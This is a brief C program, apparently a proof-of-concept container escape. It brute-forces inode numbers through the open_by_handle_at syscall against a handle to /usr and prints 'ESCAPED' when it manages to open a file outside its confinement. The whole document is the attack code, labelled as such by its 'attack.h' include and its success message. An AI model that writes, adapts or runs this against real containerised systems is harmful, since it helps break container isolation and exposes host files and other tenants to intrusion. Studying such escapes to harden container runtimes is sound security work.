#include "attack.h"

int main(void) {
  struct { unsigned bytes; int type; unsigned ino, gen; } h = {8, 1};
  int mount = open("/usr", O_RDONLY), n = 0;
  for (unsigned i = 2; i < 5000; i++) { h.ino = i; int fd = syscall(SYS_open_by_handle_at, mount, &h, O_RDONLY); if (fd >= 0) { puts("ESCAPED"); break; } n++; }
  printf("tried %d\n", n);
}
